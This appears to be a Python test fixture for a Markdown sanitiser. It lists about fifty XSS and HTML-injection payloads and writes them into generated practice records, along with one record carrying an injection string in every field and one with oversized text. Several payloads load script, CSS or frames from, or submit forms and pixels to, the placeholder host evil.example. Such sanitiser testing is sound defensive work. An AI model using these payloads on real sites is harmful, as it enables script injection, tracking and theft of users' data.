"""What people have put into Markdown to run a script, to look like something else, or to phone home.

Each payload has a `{word}` that must stay findable, or none; then the word stands behind it.
"""

from typing import Final

from tests import corpus

EVIL: Final = "evil.example"

PAYLOADS: Final = (
    # scripts
    "<script>alert('{word}')</script>",
    "<SCRIPT SRC=//evil.example/x.js>{word}</SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>{word}",
    "<script/x>alert(1)</script >{word}",
    "<!-- --!><script>alert(1)</script>{word} -->",
    "<![CDATA[<script>alert(1)</script>]]>{word}",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">{word}',
    "`<script>`{word}\n\n    <script>alert(1)</script>",
    "[^1]\n\n[^1]: <script>alert('{word}')</script>",
    "| a |\n|---|\n| <script>alert('{word}')</script> |",
    # handlers
    "<img src=x onerror=alert(1)>{word}",
    "<img src=x:x onerror\n=alert(1)>{word}",
    "<b onclick=alert(1) onmouseover='alert(1)' style=animation-name:x onanimationstart=alert(1)>{word}</b>",
    "<details open ontoggle=alert(1)>{word}</details>",
    "<body onload=alert(1)>{word}",
    "<input autofocus onfocus=alert(1)>{word}",
    "<video src=x onerror=alert(1)><source onerror=alert(1)></video>{word}",
    "<marquee onstart=alert(1)>{word}</marquee>",
    "<a href=x tabindex=1 id=x onfocus=alert(1) autofocus>{word}</a>",
    # addresses
    "[{word}](javascript:alert(1))",
    "[{word}](&#x6A;avascript:alert(1))",
    "[{word}](java&#10;script:alert(1))",
    "[{word}](JaVaScRiPt&colon;alert(1))",
    "[{word}](&#1;javascript:alert(1))",
    "<a href='&#x6A;avascript:alert(1)'>{word}</a>",
    '<a href="&Tab;javascript:alert(1)">{word}</a>',
    "<javascript:alert(1)>",
    "[{word}]: javascript:alert(1)\n\n[{word}]",
    "[{word}](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![{word}](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[{word}](vbscript:alert(1))",
    "![{word}](https://evil.example/pixel.gif)",
    "<a href=//evil.example ping=https://evil.example/ping>{word}</a>",
    # other elements
    "<svg onload=alert(1)><script>alert(1)</script><text>{word}</text></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s><a xlink:href='javascript:alert(1)'>{word}</a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style>{word}</svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>{word}",
    "<math href='javascript:alert(1)'>{word}</math>",
    "<iframe srcdoc='<script>alert(1)</script>' src=https://evil.example>{word}</iframe>",
    "<style>@import 'https://evil.example/x.css'; body {display:none}</style>{word}",
    "<p style='position:fixed;inset:0;background:url(https://evil.example/x)'>{word}</p>",
    "<form action=https://evil.example><input name=a><button formaction=https://evil.example>{word}</button></form>",
    "<base href=https://evil.example>{word}",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>{word}",
    "<link rel=stylesheet href=https://evil.example/x.css>{word}",
    "<object data=https://evil.example/x></object><embed src=https://evil.example/x>{word}",
    "<template><script>alert(1)</script></template><slot>{word}</slot>",
    "<a href=x id=isi class=site-header name=body>{word}</a>",
    "</main></body></html><script>alert(1)</script>{word}",
    "<textarea></textarea><title></title><script>alert(1)</script>{word}",
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">{word}',
)  # fmt: skip


def word_of(number: int) -> str:
    """Return the word that stands in a payload: no other text has it."""
    return f"sandikata{chr(ord('a') + number // 26)}{chr(ord('a') + number % 26)}"


def markdown_of(number: int) -> str:
    """Return a payload with its word."""
    payload, word = PAYLOADS[number], word_of(number)
    text = payload.replace("{word}", word)
    return text if word in text else f"{text} {word}"


ATTACK: Final = "'\\\"><img src=x onerror=alert(1)><script>alert(1)</script>"
"""For every text of a record; the backslash is YAML's."""
EVERYWHERE: Final = corpus.practice(
    f"Judul {ATTACK}",
    summary=f"Ringkasan {ATTACK}",
    extra=f"""\
aliases: ["Nama {ATTACK}"]
owner_unit: "Dinas {ATTACK}"
open_questions: ["Apa {ATTACK}"]
tags: ["{ATTACK}"]
costs:
  - {{item: "Biaya {ATTACK}", kind: bangun, amount_idr: 5, paid_by: "{ATTACK}", note: "{ATTACK}", sources: [s1]}}
results:
  - indicator: "Angka {ATTACK}"
    role: hasil
    value: "{ATTACK}"
    unit: "{ATTACK}"
    evidence: pernyataan
    stated_by: media
    sources: [s1]
contact: {{office: "Kantor {ATTACK}", phone: "{ATTACK}", note: "{ATTACK}"}}
disputed:
  - about: "{ATTACK}"
    versions: [{{text: "{ATTACK}", sources: [s1]}}, {{text: lain, sources: [s1]}}]
    note: "{ATTACK}"
""",
)
"""A practice with an attack in every text."""

LONG_WORD: Final = "kata" * 2_500
WIDE: Final = corpus.practice(
    "J" * 130,
    summary=f"Ringkasan {'r' * 1_400}",
    problem="\n\n".join(
        (
            LONG_WORD,
            f"[{LONG_WORD}](https://example.org/{'x' * 900})",
            f"`{LONG_WORD}`",
            f"| {LONG_WORD} | b |\n|---|---|\n| c | d |",
        )
    ),
    extra=f"""\
aliases: ["{"a" * 200}"]
owner_unit: "{"o" * 500}"
costs:
  - {{item: "{"i" * 200}", kind: bangun, amount_idr: 5, sources: [s1]}}
results:
  - indicator: "{"n" * 200}"
    role: hasil
    value: "{"v" * 200}"
    evidence: pernyataan
    stated_by: media
    sources: [s1]
""",
)
"""A practice of words beyond measure: ten kilobytes in the body, as long as allowed elsewhere."""


def hostile_files() -> dict[str, str]:
    """Return one practice a payload, one with an attack in every text, and one with words beyond measure."""
    files = {
        f"kota-surabaya/muatan-{number}.md": corpus.practice(
            f"Muatan nomor {number}", problem=f"Awal.\n\n{markdown_of(number)}\n\nAkhir."
        )
        for number in range(len(PAYLOADS))
    }
    return {**files, "kota-malang/semua.md": EVERYWHERE, "kota-malang/lebar.md": WIDE}
